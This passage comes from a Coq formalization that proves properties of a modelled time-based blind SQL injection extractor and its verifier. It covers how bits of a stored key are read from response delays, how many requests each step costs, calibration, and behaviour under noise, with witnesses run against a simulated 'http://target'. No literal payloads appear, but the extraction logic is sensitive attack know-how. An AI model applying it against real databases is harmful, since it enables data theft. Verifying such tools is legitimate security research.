              (BlindSQLInjection.__init__ server delay_size)
              output_file EmptyString 1 "A" w)
    as (w1 & -> & _);
    [by apply scenario_bits|by vm_compute|].
  change (EmptyString +:+ String "A"%char EmptyString) with "A".
  destruct (extract_string_body_truthful (Transport0 := target)
              (BlindSQLInjection.__init__ server delay_size)
              output_file "A" 2 "B" w1)
    as (w2 & -> & _);
    [by apply scenario_bits|by vm_compute|].
  eexists. split; [reflexivity|]. cbn [files].
  apply lookup_insert_eq.
Qed.

Lemma scenario_verify (input_file output_file : string)
    (w : World unit) :
  files w !! input_file = Some "AC" ->
  exists w' : World unit,
    ExtractionVerifier.verify_and_correct (Transport0 := target)
      (ExtractionVerifier.__init__ server delay_size)
      input_file output_file w = (Ok ("AB", [2]), w') /\
    files w' !! output_file = Some "AB".
Proof.
  intros Hfile.
  unfold ExtractionVerifier.verify_and_correct, bind at 1, read_file.
  rewrite Hfile.
  change (universal_newlines "AC") with "AC".
  change (range 1 (len "AC" + 1) 1) with [1; 2].
  cbn [for_fold]. unfold bind.
  (* position 1: the stored A answers the inequality fast *)
  rewrite (verify_body_unfold (Transport0 := target) verifier output_file
             "AC" EmptyString [] 1 "A" w eq_refl).
  change (checkpointed output_file EmptyString 1 w) with w.
  change (ExtractionVerifier._character_matches verifier 1 "A" 1)
    with (matching (Transport0 := target) (reset_url server)
            (NotEqual 1 (ord "A") delay_size) float_0_42 [0]).
  rewrite (matching_once_accepts (Transport0 := target) (reset_url server)
             (NotEqual 1 (ord "A") delay_size) float_0_42 0 w (Some fast)
             eq_refl);
    [|apply Qltb_ge; by apply Qlt_le_weak].
  set (w1 := probed (Transport0 := target) (reset_url server)
               (NotEqual 1 (ord "A") delay_size) 1 w).
  change (EmptyString +:+ String "A"%char EmptyString) with "A".
  (* position 2: the stored B answers the inequality with C slowly *)
  rewrite (verify_body_unfold (Transport0 := target) verifier output_file
             "AC" "A" [] 2 "C" w1 eq_refl).
  change (checkpointed output_file "A" 2 w1) with w1.
  change (ExtractionVerifier._character_matches verifier 2 "C" 1)
    with (matching (Transport0 := target) (reset_url server)
            (NotEqual 2 (ord "C") delay_size) float_0_42 [0]).
  destruct (matching_once_retries (Transport0 := target) (reset_url server)
              (NotEqual 2 (ord "C") delay_size) float_0_42 0 w1 slow
              [Some slow; Some slow; Some slow] eq_refl slow_above)
    as [-> Hretries].
  rewrite retrying_slow;
    [|change (length (range 0 3 1)) with 3%nat; rewrite Hretries;
      repeat constructor; apply Qltb_ge; by apply Qlt_le_weak].
  set (w2 := probed (Transport0 := target) (reset_url server)
               (NotEqual 2 (ord "C") delay_size) _ _).
  change (ExtractionVerifier._extract_character verifier 2 7)
    with (rebuilding (Transport0 := target) (reset_url server)
            delay_size float_0_42 2 7).
  destruct (rebuilding_truthful (Transport0 := target) (reset_url server)
              delay_size float_0_42 2 (ord "B")
              (scenario_bits (reset_url server) 2 "B" eq_refl) 7 w2
              (ord_bounds "B"))
    as (c & w3 & Hchr & -> & _ & Hfiles); [lia|].
  rewrite chr_ord in Hchr. injection Hchr as <-.
  eexists. split; [reflexivity|]. cbn [files].
  apply lookup_insert_eq.
Qed.

End Scenario.

(** C5, as the code has it: the scenario with the key AB.  Against a
    noise-free target holding ["AB"] (any answer times below and above the
    threshold), [extract_string] with two positions returns ["AB"] and
    leaves it in the output file; [verify_and_correct] on a file holding
    ["AC"] returns the corrected string ["AB"] with the one-entry mismatch
    list [[2]], positions being all the list holds, and leaves ["AB"] in
    its output file. *)
Theorem scenario_AB (fast slow : Q) (server : string) (delay_size : Z)
    (input_file output_file : string) (w : World unit) :
  (fast < float_0_42)%Q ->
  (float_0_42 < slow)%Q ->
  (exists w' : World unit,
     BlindSQLInjection.extract_string
       (Transport0 := noise_free "AB" fast slow)
       (BlindSQLInjection.__init__ server delay_size) 2 output_file w =
     (Ok "AB", w') /\
     files w' !! output_file = Some "AB") /\
  (files w !! input_file = Some "AC" ->
   exists w' : World unit,
     ExtractionVerifier.verify_and_correct
       (Transport0 := noise_free "AB" fast slow)
       (ExtractionVerifier.__init__ server delay_size)
       input_file output_file w = (Ok ("AB", [2]), w') /\
     files w' !! output_file = Some "AB").
Proof.
  intros Hfast Hslow. split.
  - by apply scenario_extract.
  - by apply scenario_verify.
Qed.

(** C5 at work: answers after 0.25 and 1 second. *)
Lemma scenario_AB_witness :
  exists w' : World unit,
    ExtractionVerifier.verify_and_correct
      (Transport0 := noise_free "AB" 0.25 1)
      (ExtractionVerifier.__init__ "http://target" 60000000)
      "extracted_output.txt" "verified_output.txt"
      (mkWorld tt [] {[ "extracted_output.txt" := "AC" ]}) =
    (Ok ("AB", [2]), w') /\
    files w' !! "verified_output.txt" = Some "AB".
Proof.
  apply (proj2 (scenario_AB 0.25 1 "http://target" 60000000
    "extracted_output.txt" "verified_output.txt"
    (mkWorld tt [] {[ "extracted_output.txt" := "AC" ]})
    ltac:(reflexivity) ltac:(reflexivity))).
  reflexivity.
Defined.

(** C5 as worded fails: what is returned with the corrected string is the
    list of positions [[2]].  The value returned for the wrong string
    ["AC"] is the value returned for the wrong string ["AD"], so the
    original character of the mismatch cannot be read off it. *)
Lemma answer_has_positions_only :
  scenario_answer "AC" = Ok ("AB", [2]) /\
  scenario_answer "AD" = Ok ("AB", [2]) /\
  ~ answer_carries_characters.
Proof.
  assert (HC : scenario_answer "AC" = Ok ("AB", [2]))
    by (vm_compute; reflexivity).
  assert (HD : scenario_answer "AD" = Ok ("AB", [2]))
    by (vm_compute; reflexivity).
  split; [exact HC|]. split; [exact HD|].
  intros (records & HrC & HrD).
  rewrite HC in HrC. rewrite HD, HrC in HrD. discriminate HrD.
Qed.

(** * Further properties *)

(** ** What a bit decision and a character cost *)

(** X1: what a bit decision costs.  On any channel both [_extract_bit]
    methods return 0 or 1; they ask the same bit question at least once
    (when [num_samples >= 1]) and at most [num_samples] times, ask nothing
    else and touch no file.  With [num_samples <= 0] nothing is asked and
    the answer is 1. *)
Theorem bit_decision_requests {S : Type} `{!Transport S}
    (extractor : BlindSQLInjection.t) (verifier : ExtractionVerifier.t)
    (char_position bit_position num_samples : Z) (w : World S) :
  (exists (b : Z) (w' : World S),
     BlindSQLInjection._extract_bit extractor char_position bit_position
       num_samples w = (Ok b, w') /\
     (b = 0 \/ b = 1) /\
     (num_samples <= 0 -> b = 1) /\
     asked
       (fun inj => inj = BitTest char_position bit_position
                           (BlindSQLInjection.delay_size extractor))
       (Nat.min 1 (Z.to_nat num_samples)) (Z.to_nat num_samples) w w' /\
     files w' = files w) /\
  (exists (b : Z) (w' : World S),
     ExtractionVerifier._extract_bit verifier char_position bit_position
       num_samples w = (Ok b, w') /\
     (b = 0 \/ b = 1) /\
     (num_samples <= 0 -> b = 1) /\
     asked
       (fun inj => inj = BitTest char_position bit_position
                           (ExtractionVerifier.delay_size verifier))
       (Nat.min 1 (Z.to_nat num_samples)) (Z.to_nat num_samples) w w' /\
     files w' = files w).
Proof.
  rewrite extract_bit_sampling, verifier_extract_bit_sampling.
  rewrite <- (length_range_samples num_samples).
  assert (Hgen : forall url inj threshold,
    exists (b : Z) (w' : World S),
      sampling url inj threshold (range 0 num_samples 1) w = (Ok b, w') /\
      (b = 0 \/ b = 1) /\
      (num_samples <= 0 -> b = 1) /\
      asked (fun i => i = inj)
        (Nat.min 1 (length (range 0 num_samples 1)))
        (length (range 0 num_samples 1)) w w' /\
      files w' = files w).
  { intros url inj threshold.
    destruct (sampling_bounded url inj threshold (range 0 num_samples 1) w)
      as (b & n & -> & Hb & Hhi & Hlo & Hnone).
    exists b; eexists. split; [reflexivity|]. split; [exact Hb|].
    split; [intros Hn; apply Hnone; by apply range_no_turn|].
    split; [|reflexivity].
    eapply asked_weaken; [| | |apply asked_probed]; [done| |exact Hhi].
    destruct (range 0 num_samples 1); [cbn; lia|]. cbn [length].
    specialize (Hlo ltac:(done)). lia. }
  split; apply Hgen.
Qed.

(** X2: what rebuilding a character costs.  On any channel both character
    methods return a character after between 8 and [8 * num_samples]
    requests (for [num_samples >= 1]), each a bit question about their own
    position, and touch no file.  With [num_samples <= 0] they ask nothing
    and return the character of code 255. *)
Theorem character_requests {S : Type} `{!Transport S}
    (extractor : BlindSQLInjection.t) (verifier : ExtractionVerifier.t)
    (position num_samples : Z) (w : World S) :
  (exists (c : ascii) (w' : World S),
     BlindSQLInjection.extract_character extractor position num_samples w =
     (Ok c, w') /\
     asked
       (bit_question position (BlindSQLInjection.delay_size extractor))
       (8 * Nat.min 1 (Z.to_nat num_samples)) (8 * Z.to_nat num_samples)
       w w' /\
     files w' = files w /\
     (num_samples <= 0 -> c = ascii_of_N 255 /\ w' = w)) /\
  (exists (c : ascii) (w' : World S),
     ExtractionVerifier._extract_character verifier position num_samples w =
     (Ok c, w') /\
     asked
       (bit_question position (ExtractionVerifier.delay_size verifier))
       (8 * Nat.min 1 (Z.to_nat num_samples)) (8 * Z.to_nat num_samples)
       w w' /\
     files w' = files w /\
     (num_samples <= 0 -> c = ascii_of_N 255 /\ w' = w)).
Proof.
  rewrite extract_character_rebuilding,
    verifier_extract_character_rebuilding.
  assert (Hgen : forall url delay_size threshold,
    exists (c : ascii) (w' : World S),
      rebuilding url delay_size threshold position num_samples w =
      (Ok c, w') /\
      asked (bit_question position delay_size)
        (8 * Nat.min 1 (Z.to_nat num_samples)) (8 * Z.to_nat num_samples)
        w w' /\
      files w' = files w /\
      (num_samples <= 0 -> c = ascii_of_N 255 /\ w' = w)).
  { intros url delay_size threshold.
    destruct (rebuilding_asked url delay_size threshold position
                num_samples w) as (c & w' & Hrun & Hasked & Hfiles & _).
    exists c, w'. split; [exact Hrun|]. split; [exact Hasked|].
    split; [exact Hfiles|]. intros Hn.
    rewrite (rebuilding_no_sample _ _ _ _ _ _ Hn) in Hrun.
    by injection Hrun as <- <-. }
  split; apply Hgen.
Qed.

(** ** Calibration *)

(** The run of [calibrate], by its two measurements. *)
Lemma calibrate_run {S : Type} `{!Transport S}
    (self : BlindSQLInjection.t) (w : World S) :
  exists (r : outcome bool) (w' : World S),
    BlindSQLInjection.calibrate self w = (r, w') /\
    sent w' = Calibration true :: Calibration false :: sent w /\
    files w' = files w /\
    match measurements (reset_url (BlindSQLInjection.server self)) (net w)
    with
    | (Some baseline, Some delayed) =>
        if Qeq_bool baseline 0 then r = Raise ZeroDivisionError
        else exists warning : bool, r = Ok warning
    | _ => r = Raise TypeError
    end.
Proof.
  unfold BlindSQLInjection.calibrate, bind,
    BlindSQLInjection._send_injection, measurements, reset_url, lift, ret,
    BlindSQLInjection.format_3f, BlindSQLInjection.truediv.
  destruct (post (BlindSQLInjection.server self +:+ "/reset/")
              (Calibration false) (net w)) as [baseline n1].
  cbn [net sent files].
  destruct (post (BlindSQLInjection.server self +:+ "/reset/")
              (Calibration true) n1) as [delayed n2].
  cbn [fst].
  destruct baseline as [b|], delayed as [d|];
    try (eexists; eexists; repeat split; reflexivity).
  destruct (Qeq_bool b 0) eqn:E;
    eexists; eexists; (split; [reflexivity|]); rewrite ?E;
    repeat split; eauto.
Qed.

(** X3: what [calibrate] does.  On any channel it makes exactly its two
    requests, the false condition and then the true one, touches no file,
    and finishes exactly when both were answered and the baseline is not
    zero.  A missing measurement is a [TypeError] and a zero baseline a
    [ZeroDivisionError], both raised after the two requests. *)
Theorem calibrate_outcome {S : Type} `{!Transport S}
    (self : BlindSQLInjection.t) (w : World S) :
  exists (r : outcome bool) (w' : World S),
    BlindSQLInjection.calibrate self w = (r, w') /\
    sent w' = Calibration true :: Calibration false :: sent w /\
    files w' = files w /\
    match measurements (reset_url (BlindSQLInjection.server self)) (net w)
    with
    | (Some baseline, Some delayed) =>
        if Qeq_bool baseline 0 then r = Raise ZeroDivisionError
        else exists warning : bool, r = Ok warning
    | _ => r = Raise TypeError
    end.
Proof. apply calibrate_run. Qed.

(** ** The extraction loop, on any channel *)

(** X4: what [extract_string] leaves behind.  On any channel it returns a
    string of exactly [max_chars] characters (none when [max_chars <= 0]);
    of the files only [output_file] changes, and it holds the result.  Its
    requests fall into one turn for each of the positions 1 to
    [max_chars], in this order; the requests of a turn are bit questions
    about its position, at least 8 and at most 64 of them; so on the whole
    it makes between [8 * max_chars] and [64 * max_chars] requests. *)
Theorem extract_string_effects {S : Type} `{!Transport S}
    (self : BlindSQLInjection.t) (max_chars : Z) (output_file : string)
    (w : World S) :
  exists (result : string) (turns : list (list injection)) (w' : World S),
    BlindSQLInjection.extract_string self max_chars output_file w =
    (Ok result, w') /\
    len result = Z.max 0 max_chars /\
    files w' = <[output_file := result]> (files w) /\
    sent w' = concat (rev turns) ++ sent w /\
    Forall2
      (fun (position : Z) (new : list injection) =>
         Forall (bit_question position (BlindSQLInjection.delay_size self))
           new /\
         (8 <= length new <= 64)%nat)
      (range 1 (max_chars + 1) 1) turns /\
    asked
      (fun inj =>
         exists p, 1 <= p <= max_chars /\
           bit_question p (BlindSQLInjection.delay_size self) inj)
      (8 * Z.to_nat max_chars) (64 * Z.to_nat max_chars) w w'.
Proof.
  destruct (extract_string_log self max_chars output_file w)
    as (result & turns & w' & Hrun & Hlen & _ & Hper & Hsent & Hfiles & _).
  destruct (extract_string_run self max_chars output_file w)
    as (result' & w'' & Hrun' & _ & _ & Hasked).
  rewrite Hrun in Hrun'. injection Hrun' as <- <-.
  exists result, turns, w'. split; [exact Hrun|].
  split; [unfold len; lia|]. split; [exact Hfiles|].
  split; [exact Hsent|]. split; [exact Hper|exact Hasked].
Qed.

(** ** Extraction over a noise-free channel *)

Lemma noise_free_answers_key_bits (key : string) (fast slow threshold : Q)
    (url : string) (delay_size : Z) :
  (fast < threshold)%Q -> (threshold <= slow)%Q ->
  answers_key_bits (Transport0 := noise_free key fast slow)
    url delay_size threshold key.
Proof.
  intros Hfast Hslow i c Hget.
  apply noise_free_answers_bits; [exact Hfast|exact Hslow|].
  unfold unicode_substr.
  replace (1 <=? Z.of_nat i + 1) with true
    by (symmetry; apply Z.leb_le; lia).
  replace (Z.to_nat (Z.of_nat i + 1 - 1)) with i by lia.
  by rewrite Hget.
Qed.

Section ExtractionTruthful.
Context {S : Type} `{!Transport S}.
Variables (self : BlindSQLInjection.t) (output_file : string).

(** On a truthful channel a turn appends the stored character, whether or
    not it is one of the expected ones. *)
Lemma extract_string_body_reads (result : string) (position : Z)
    (c : ascii) (w : World S) :
  answers_bits (reset_url (BlindSQLInjection.server self))
    (BlindSQLInjection.delay_size self)
    (BlindSQLInjection.threshold self) position (ord c) ->
  exists w' : World S,
    BlindSQLInjection.extract_string_body self output_file result
      position w = (Ok (result +:+ String c EmptyString), w').
Proof.
  intros Htruth.
  unfold BlindSQLInjection.extract_string_body, bind.
  rewrite !extract_character_rebuilding.
  destruct (rebuilding_truthful _ _ _ _ _ Htruth 1 w (ord_bounds c))
    as (c1 & w1 & Hchr & -> & _); [lia|].
  rewrite chr_ord in Hchr. injection Hchr as <-.
  assert (Hwrite : forall w0 : World S,
    exists w' : World S,
      (let (o, w') :=
         (if position mod 25 =? 0
          then write_file output_file (result +:+ String c EmptyString)
          else ret tt) w0 in
       match o with
       | Ok _ => ret (result +:+ String c EmptyString) w'
       | Raise e => (Raise e, w')
       end) = (Ok (result +:+ String c EmptyString), w')).
  { intros w0. unfold write_file, ret.
    destruct (position mod 25 =? 0); eexists; reflexivity. }
  destruct (bool_decide (c ∉ BlindSQLInjection.VALID_CHARS)).
  - destruct (rebuilding_truthful _ _ _ _ _ Htruth 7 w1 (ord_bounds c))
      as (c2 & w2 & Hchr & -> & _); [lia|].
    rewrite chr_ord in Hchr. injection Hchr as <-. apply Hwrite.
  - apply Hwrite.
Qed.

Lemma extract_loop_reads (rest : string) (first : nat) (result : string)
    (w : World S) :
  (forall (i : nat) (c : ascii),
      String.get i rest = Some c ->
      answers_bits (reset_url (BlindSQLInjection.server self))
        (BlindSQLInjection.delay_size self)
        (BlindSQLInjection.threshold self)
        (Z.of_nat (first + i) + 1) (ord c)) ->
  exists w' : World S,
    for_fold (map (fun i => Z.of_nat i + 1)
                (seq first (String.length rest)))
      (BlindSQLInjection.extract_string_body self output_file)
      result w = (Ok (result +:+ rest), w').
Proof.
  revert first result w.
  induction rest as [|c rest IH]; intros first result w Htruth.
  - exists w. cbn. by rewrite append_empty_r.
  - cbn [String.length seq map for_fold]. unfold bind.
    destruct (extract_string_body_reads result (Z.of_nat first + 1) c w)
      as [w1 ->].
    { specialize (Htruth 0%nat c eq_refl).
      by rewrite Nat.add_0_r in Htruth. }
    destruct (IH (Datatypes.S first)
                (result +:+ String c EmptyString) w1) as [w2 ->].
    { intros i c' Hget. specialize (Htruth (Datatypes.S i) c' Hget).
      by replace (Datatypes.S first + i)%nat
        with (first + Datatypes.S i)%nat by lia. }
    exists w2. by rewrite append_assoc, append_cons, append_empty_l.
Qed.

End ExtractionTruthful.

(** The run of [extract_string] on a truthful channel. *)
Lemma extract_string_truthful {S : Type} `{!Transport S}
    (self : BlindSQLInjection.t) (output_file key : string) (w : World S) :
  answers_key_bits (reset_url (BlindSQLInjection.server self))
    (BlindSQLInjection.delay_size self)
    (BlindSQLInjection.threshold self) key ->
  exists w' : World S,
    BlindSQLInjection.extract_string self (len key) output_file w =
    (Ok key, w') /\
    files w' = <[output_file := key]> (files w).
Proof.
  intros Htruth.
  destruct (extract_loop_reads self output_file key 0 EmptyString w)
    as [w1 Hrun].
  { intros i c Hget. by apply Htruth. }
  destruct (extract_loop_asked self output_file
              (range 1 (len key + 1) 1) EmptyString w)
    as (added & w1' & Hrun' & _ & _ & Hfiles).
  unfold len in *. rewrite range_positions in *.
  rewrite Hrun in Hrun'. injection Hrun' as _ <-.
  unfold BlindSQLInjection.extract_string, bind.
  rewrite range_positions, Hrun, append_empty_l.
  eexists. split; [reflexivity|]. cbn [files].
  destruct Hfiles as [->|[text ->]]; [done|]. apply insert_insert_eq.
Qed.

(** X5: extraction reads the key back.  On a channel without noise or
    failures that answers the bit questions by the characters of [key],
    whatever they are, [extract_string] over the length of the key returns
    the key itself and leaves it in the output file. *)
Theorem extract_string_reads_key {S : Type} `{!Transport S}
    (self : BlindSQLInjection.t) (output_file key : string) (w : World S) :
  answers_key_bits (reset_url (BlindSQLInjection.server self))
    (BlindSQLInjection.delay_size self)
    (BlindSQLInjection.threshold self) key ->
  exists w' : World S,
    BlindSQLInjection.extract_string self (len key) output_file w =
    (Ok key, w') /\
    files w' = <[output_file := key]> (files w).
Proof. apply extract_string_truthful. Qed.

(** X5 at work: the key AB behind the simulated target. *)
Lemma extract_string_reads_key_witness :
  exists w' : World unit,
    BlindSQLInjection.extract_string
      (Transport0 := noise_free "AB" 0.25 1)
      (BlindSQLInjection.__init__ "http://target" 60000000)
      (len "AB") "extracted_output.txt" (mkWorld tt [] ∅) =
    (Ok "AB", w') /\
    files w' = <["extracted_output.txt" := "AB"]> ∅.
Proof.
  apply (extract_string_reads_key (Transport0 := noise_free "AB" 0.25 1)
    (BlindSQLInjection.__init__ "http://target" 60000000)
    "extracted_output.txt" "AB" (mkWorld tt [] ∅)).
  apply noise_free_answers_key_bits; [reflexivity|discriminate].
Defined.

(** ** Noise that only delays *)

(** The character eight decided bits make has exactly those bits. *)
Lemma digits_character_bits (b7 b6 b5 b4 b3 b2 b1 b0 : Z) :
  (b7 = 0 \/ b7 = 1) -> (b6 = 0 \/ b6 = 1) -> (b5 = 0 \/ b5 = 1) ->
  (b4 = 0 \/ b4 = 1) -> (b3 = 0 \/ b3 = 1) -> (b2 = 0 \/ b2 = 1) ->
  (b1 = 0 \/ b1 = 1) -> (b0 = 0 \/ b0 = 1) ->
  exists (code : Z) (c : ascii),
    int_base2 (join [str b7; str b6; str b5; str b4;
                     str b3; str b2; str b1; str b0]) = Ok code /\
    chr code = Ok c /\
    Z.testbit (ord c) 7 = (1 =? b7) /\ Z.testbit (ord c) 6 = (1 =? b6) /\
    Z.testbit (ord c) 5 = (1 =? b5) /\ Z.testbit (ord c) 4 = (1 =? b4) /\
    Z.testbit (ord c) 3 = (1 =? b3) /\ Z.testbit (ord c) 2 = (1 =? b2) /\
    Z.testbit (ord c) 1 = (1 =? b1) /\ Z.testbit (ord c) 0 = (1 =? b0).
Proof.
  intros [-> | ->] [-> | ->] [-> | ->] [-> | ->]
         [-> | ->] [-> | ->] [-> | ->] [-> | ->];
    eexists; eexists; (split; [vm_compute; reflexivity|]);
    (split; [vm_compute; reflexivity|]); vm_compute; by repeat split.
Qed.

Section DelayOnly.
Context {S : Type} `{!Transport S}.
Variables (url : string) (delay_size : Z) (threshold : Q).
Variables (position b : Z).
Hypothesis delays_only :
  never_fast_when_set url delay_size threshold position b.

Lemma delayed_replies_set (bit : Z) (n : nat) (s : S) :
  0 <= bit < 8 -> Z.testbit b bit = true ->
  Forall (not_fast threshold)
    (replies url (BitTest position bit delay_size) n s).
Proof.
  intros Hbit Hset. revert s. induction n as [|n IH]; intros s.
  - constructor.
  - rewrite replies_cons. constructor; [|apply IH].
    by apply delays_only.
Qed.

Lemma sampling_keeps_set_bit (bit : Z) (xs : list Z) (w : World S) :
  0 <= bit < 8 ->
  exists (d : Z) (w' : World S),
    sampling url (BitTest position bit delay_size) threshold xs w =
    (Ok d, w') /\
    (d = 0 \/ d = 1) /\
    (Z.testbit b bit = true -> d = 1).
Proof.
  intros Hbit. destruct (Z.testbit b bit) eqn:Hset.
  - exists 1; eexists. split; [|by split; [right|]].
    apply sampling_slow. by apply delayed_replies_set.
  - destruct (sampling_total url (BitTest position bit delay_size)
                threshold xs w) as (d & n & -> & Hd).
    exists d; eexists. by repeat split.
Qed.

Lemma rebuilding_keeps_set_bits (num_samples : Z) (w : World S) :
  exists (c : ascii) (w' : World S),
    rebuilding url delay_size threshold position num_samples w =
    (Ok c, w') /\
    forall bit, 0 <= bit < 8 ->
      Z.testbit b bit = true -> Z.testbit (ord c) bit = true.
Proof.
  unfold rebuilding. rewrite range_bits. cbn [comprehension].
  unfold bind, ret, lift.
  set (xs := range 0 num_samples 1).
  destruct (sampling_keeps_set_bit 7 xs w) as (b7 & w7 & -> & B7 & K7);
    [lia|].
  destruct (sampling_keeps_set_bit 6 xs w7) as (b6 & w6 & -> & B6 & K6);
    [lia|].
  destruct (sampling_keeps_set_bit 5 xs w6) as (b5 & w5 & -> & B5 & K5);
    [lia|].
  destruct (sampling_keeps_set_bit 4 xs w5) as (b4 & w4 & -> & B4 & K4);
    [lia|].
  destruct (sampling_keeps_set_bit 3 xs w4) as (b3 & w3 & -> & B3 & K3);
    [lia|].
  destruct (sampling_keeps_set_bit 2 xs w3) as (b2 & w2 & -> & B2 & K2);
    [lia|].
  destruct (sampling_keeps_set_bit 1 xs w2) as (b1 & w1 & -> & B1 & K1);
    [lia|].
  destruct (sampling_keeps_set_bit 0 xs w1) as (b0 & w0 & -> & B0 & K0);
    [lia|].
  cbv beta iota.
  destruct (digits_character_bits b7 b6 b5 b4 b3 b2 b1 b0)
    as (code & c & -> & -> & H7 & H6 & H5 & H4 & H3 & H2 & H1 & H0);
    try assumption.
  exists c, w0. split; [reflexivity|].
  intros bit Hbit Hset.
  assert (Hcase : bit = 0 \/ bit = 1 \/ bit = 2 \/ bit = 3 \/
                  bit = 4 \/ bit = 5 \/ bit = 6 \/ bit = 7) by lia.
  destruct Hcase as [->|[->|[->|[->|[->|[->|[->| ->]]]]]]].
  - by rewrite H0, (K0 Hset).
  - by rewrite H1, (K1 Hset).
  - by rewrite H2, (K2 Hset).
  - by rewrite H3, (K3 Hset).
  - by rewrite H4, (K4 Hset).
  - by rewrite H5, (K5 Hset).
  - by rewrite H6, (K6 Hset).
  - by rewrite H7, (K7 Hset).
Qed.

End DelayOnly.

(** X6: noise that only delays can only add bits.  When the question about
    a set bit of the stored byte [b] is never answered fast (answers may be
    late or missing, never early), the character both character methods
    return, with any sample count, has every bit of [b] set: a bit read as
    0 is a true 0. *)
Theorem delays_only_add_bits {S : Type} `{!Transport S}
    (extractor : BlindSQLInjection.t) (verifier : ExtractionVerifier.t)
    (position num_samples b : Z) (w : World S) :
  (never_fast_when_set (reset_url (BlindSQLInjection.server extractor))
     (BlindSQLInjection.delay_size extractor)
     (BlindSQLInjection.threshold extractor) position b ->
   exists (c : ascii) (w' : World S),
     BlindSQLInjection.extract_character extractor position num_samples w =
     (Ok c, w') /\
     forall bit, 0 <= bit < 8 ->
       Z.testbit b bit = true -> Z.testbit (ord c) bit = true) /\
  (never_fast_when_set (reset_url (ExtractionVerifier.server verifier))
     (ExtractionVerifier.delay_size verifier)
     (ExtractionVerifier.threshold verifier) position b ->
   exists (c : ascii) (w' : World S),
     ExtractionVerifier._extract_character verifier position num_samples w =
     (Ok c, w') /\
     forall bit, 0 <= bit < 8 ->
       Z.testbit b bit = true -> Z.testbit (ord c) bit = true).
Proof.
  rewrite extract_character_rebuilding,
    verifier_extract_character_rebuilding.
  split; intros Hdelay; by apply rebuilding_keeps_set_bits.
Qed.

(** X6 at work: the byte 65 behind a target that always answers after a
    second. *)
Lemma delays_only_add_bits_witness :
  exists (c : ascii) (w' : World unit),
    BlindSQLInjection.extract_character (Transport0 := constant_time 1)
      (BlindSQLInjection.__init__ "http://target" 60000000) 1 3
      (mkWorld tt [] ∅) = (Ok c, w') /\
    forall bit, 0 <= bit < 8 ->
      Z.testbit 65 bit = true -> Z.testbit (ord c) bit = true.
Proof.
  apply (proj1 (delays_only_add_bits (Transport0 := constant_time 1)
    (BlindSQLInjection.__init__ "http://target" 60000000)
    (ExtractionVerifier.__init__ "http://target" 60000000) 1 3 65
    (mkWorld tt [] ∅))).
  intros s bit _ _. reflexivity.
Defined.

(** ** The check of a character, on any channel *)

Lemma matching_accepts {S : Type} `{!Transport S} (url : string)
    (inj : injection) (threshold : Q) (xs : list Z) (w : World S) :
  Forall (not_above threshold) (replies url inj (length xs) (net w)) ->
  matching url inj threshold xs w = (Ok true, probed url inj (length xs) w).
Proof.
  revert w. induction xs as [|x xs IH]; intros w Hrs.
  - unfold matching, probed. cbn. by destruct w.
  - cbn [length] in Hrs. rewrite replies_cons in Hrs.
    apply Forall_cons in Hrs as [Hr Hrs].
    rewrite matching_step.
    assert (Hgo : matching url inj threshold xs (probed url inj 1 w) =
                  (Ok true, probed url inj (length (x :: xs)) w)).
    { rewrite IH; [by rewrite probed_probed|exact Hrs]. }
    destruct (fst (post url inj (net w))) as [e|]; [|exact Hgo].
    cbn in Hr. by rewrite Hr.
Qed.

(** X7: what the check of a character costs and when it gives up.  On any
    channel [_character_matches] answers after at least one request (when
    [num_samples >= 1]) and at most [num_samples + 3], all of them its one
    inequality question, and touches no file.  With [num_samples <= 0] it
    asks nothing and answers "matches"; and when none of its
    [num_samples] first answers is above the threshold (each is a failure
    or not slower than the threshold) it answers "matches" after exactly
    those requests. *)
Theorem character_matches_requests {S : Type} `{!Transport S}
    (self : ExtractionVerifier.t) (position : Z) (expected_char : ascii)
    (num_samples : Z) (w : World S) :
  (exists (is_correct : bool) (w' : World S),
     ExtractionVerifier._character_matches self position expected_char
       num_samples w = (Ok is_correct, w') /\
     asked
       (fun inj => inj = NotEqual position (ord expected_char)
                           (ExtractionVerifier.delay_size self))
       (Nat.min 1 (Z.to_nat num_samples)) (Z.to_nat num_samples + 3) w w' /\
     files w' = files w /\
     (num_samples <= 0 -> is_correct = true /\ w' = w)) /\
  (Forall (not_above (ExtractionVerifier.threshold self))
     (replies (reset_url (ExtractionVerifier.server self))
        (NotEqual position (ord expected_char)
           (ExtractionVerifier.delay_size self))
        (Z.to_nat num_samples) (net w)) ->
   ExtractionVerifier._character_matches self position expected_char
     num_samples w =
   (Ok true,
    probed (reset_url (ExtractionVerifier.server self))
      (NotEqual position (ord expected_char)
         (ExtractionVerifier.delay_size self))
      (Z.to_nat num_samples) w)).
Proof.
  rewrite character_matches_matching.
  rewrite <- (length_range_samples num_samples).
  split; [|apply matching_accepts].
  destruct (matching_bounded (reset_url (ExtractionVerifier.server self))
              (NotEqual position (ord expected_char)
                 (ExtractionVerifier.delay_size self))
              (ExtractionVerifier.threshold self)
              (range 0 num_samples 1) w)
    as (v & n & Hrun & Hhi & Hlo & Hnone).
  rewrite Hrun. exists v; eexists. split; [reflexivity|].
  split; [|split; [reflexivity|]].
  - eapply asked_weaken; [| | |apply asked_probed]; [done| |exact Hhi].
    destruct (range 0 num_samples 1); [cbn; lia|]. cbn [length].
    specialize (Hlo ltac:(done)). lia.
  - intros Hn. rewrite (range_no_turn _ Hn) in Hrun.
    unfold matching in Hrun. cbn in Hrun. by injection Hrun as <- <-.
Qed.

(** X7 at work: two samples against a target that cannot be reached. *)
Lemma character_matches_requests_witness :
  ExtractionVerifier._character_matches (Transport0 := unreachable)
    (ExtractionVerifier.__init__ "http://target" 60000000) 1 "A" 2
    (mkWorld tt [] ∅) =
  (Ok true, mkWorld tt (repeat (NotEqual 1 65 60000000) 2) ∅).
Proof.
  apply (proj2 (character_matches_requests (Transport0 := unreachable)
    (ExtractionVerifier.__init__ "http://target" 60000000) 1 "A" 2
    (mkWorld tt [] ∅))).
  repeat constructor.
Defined.

(** ** The verification pass, on any channel *)

Lemma asked_from {S : Type} (allowed : injection -> Prop) (lo hi : nat)
    (w0 w w' : World S) :
  sent w0 = sent w -> asked allowed lo hi w0 w' -> asked allowed lo hi w w'.
Proof.
  intros E (new & E' & F & L). exists new. by rewrite <- E.
Qed.

Section VerificationCost.
Context {S : Type} `{!Transport S}.
Variables (self : ExtractionVerifier.t) (output_file extracted : string).

Lemma checkpointed_sent (corrected : string) (position : Z) (w : World S) :
  sent (checkpointed output_file corrected position w) = sent w.
Proof. unfold checkpointed. by destruct (position mod 50 =? 0). Qed.

(** One turn: one character more, at most the position recorded, between
    1 and 60 questions about the position, and at most the output file
    written. *)
Lemma verify_body_asked (corrected : string) (mismatches : list Z)
